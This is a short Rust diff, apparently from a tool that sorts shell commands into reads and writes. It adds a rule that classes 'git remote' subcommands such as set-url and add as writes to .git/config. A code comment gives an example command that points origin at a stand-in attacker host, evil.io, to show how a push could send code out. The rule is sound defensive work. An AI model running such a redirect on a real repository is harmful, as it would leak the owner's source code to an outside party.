@@ -3210,6 +3210,18 @@ impl C {
                     Kind::Write
                 }
             }
+            // Where a remote points is where the next push sends the code:
+            // `git remote set-url origin https://evil.io/r.git` is the same
+            // write as `git config remote.origin.url …`.
+            "remote"
+                if matches!(
+                    ops.first().copied(),
+                    Some("add" | "set-url" | "rename" | "set-head" | "set-branches")
+                ) =>
+            {
+                self.write(".git/config");
+                Kind::Write
+            }
             "add" | "commit" | "mv" | "rm" | "switch" | "merge" | "rebase" | "cherry-pick"
             | "revert" | "init" | "apply" | "am" | "stash" | "tag" | "branch" | "worktree"
             | "notes" | "remote" | "sparse-checkout" | "update-index" | "restore" | "checkout"
